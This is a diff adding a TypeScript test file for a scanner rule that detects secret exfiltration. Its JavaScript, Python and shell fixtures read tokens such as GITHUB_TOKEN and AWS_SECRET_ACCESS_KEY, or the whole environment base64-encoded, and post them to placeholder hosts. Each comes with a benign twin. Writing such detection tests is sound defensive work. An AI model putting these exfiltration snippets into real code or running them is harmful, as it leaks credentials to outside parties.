@@ -1,0 +1,56 @@
+/**
+ * Sentinel, twenty-second pass (held-out sets h98–h101): each case a shape of the technique, with the twin that must
+ * stay quiet.
+ */
+import { test } from 'node:test';
+import assert from 'node:assert/strict';
+import { loud } from './helpers.ts';
+
+const same = (files: Record<string, string>, want: string[]): void => assert.deepEqual(loud(files), want);
+
+test('flows: credential names kept in a named list or a settings property, looked up one by one and sent', () => {
+  const js = (keys: string) =>
+    [
+      `const settings = { sink: "https://metrics.example.invalid/collect", keys: [${keys}] };`,
+      'function gather(cfg) {',
+      '  const out = {};',
+      '  for (const k of cfg.keys) out[k] = process.env[k];',
+      '  return out;',
+      '}',
+      'async function flush(cfg, data) {',
+      '  await fetch(cfg.sink, { method: "POST", body: JSON.stringify(data) });',
+      '}',
+      'flush(settings, gather(settings));',
+      '',
+    ].join('\n');
+  same({ 'scripts/cl.js': js('"GITHUB_TOKEN", "NPM_TOKEN"') }, ['error sentinel/secret-exfiltration scripts/cl.js:8']);
+  // (a list of ordinary settings' names is no credential)
+  same({ 'scripts/cl.js': js('"LOG_LEVEL", "TZ"') }, []);
+  const py = (host: string) =>
+    `import os, requests\nNAMES = ["AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN"]\ndef gather():\n    return {n: os.environ.get(n) for n in NAMES}\nrequests.post("https://${host}/c", json=gather())\n`;
+  same({ 'scripts/a.py': py('m.example.invalid') }, ['error sentinel/secret-exfiltration scripts/a.py:5']);
+  same({ 'scripts/a.py': py('api.github.com').replace('"AWS_SECRET_ACCESS_KEY", ', '') }, []);
+});
+
+test("flows: a provider's key returned by a helper and sent to a host that did not issue it; to its issuer, quiet", () => {
+  const py = (host: string) =>
+    `import os, requests\ndef gather():\n    return {"n": os.environ.get("GITHUB_TOKEN")}\nrequests.post("https://${host}/c", json=gather())\n`;
+  same({ 'scripts/a.py': py('m.example.invalid') }, ['error sentinel/secret-exfiltration scripts/a.py:4']);
+  same({ 'scripts/a.py': py('api.github.com') }, []);
+  // (a key that names no well-known provider, returned by a helper: the API call the helper exists for)
+  same({ 'scripts/a.py': py('m.example.invalid').replace('GITHUB_TOKEN', 'ACME_TOKEN') }, []);
+});
+
+test('flows: an address kept in an object property (`cfg.sink`) is where the request goes', () => {
+  const js = (token: string) =>
+    `const settings = { sink: "https://m.example.invalid/c" };\nconst out = { t: ${token} };\nasync function flush(cfg, data) {\n  await fetch(cfg.sink, { method: "POST", body: JSON.stringify(data) });\n}\nflush(settings, out);\n`;
+  assert.ok(loud({ 'scripts/a.js': js('process.env.GITHUB_TOKEN') }).includes('error sentinel/secret-exfiltration scripts/a.js:4'));
+  same({ 'scripts/a.js': js('process.env.LOG_LEVEL') }, []);
+});
+
+test('flows: the environment handed to a shell function as "$(env | base64)" and posted by it', () => {
+  const sh = (arg: string) =>
+    `#!/bin/bash\nENDPOINT=https://cache.example.invalid/u\nreport_usage() {\n  local payload="$1"\n  curl -s -d "$payload" "$ENDPOINT"\n}\nreport_usage "${arg}"\n`;
+  same({ 'scripts/s.sh': sh('$(env | base64 -w0)') }, ['error sentinel/secret-exfiltration scripts/s.sh:5']);
+  same({ 'scripts/s.sh': sh('$(date | tr -d :)') }, []);
+});
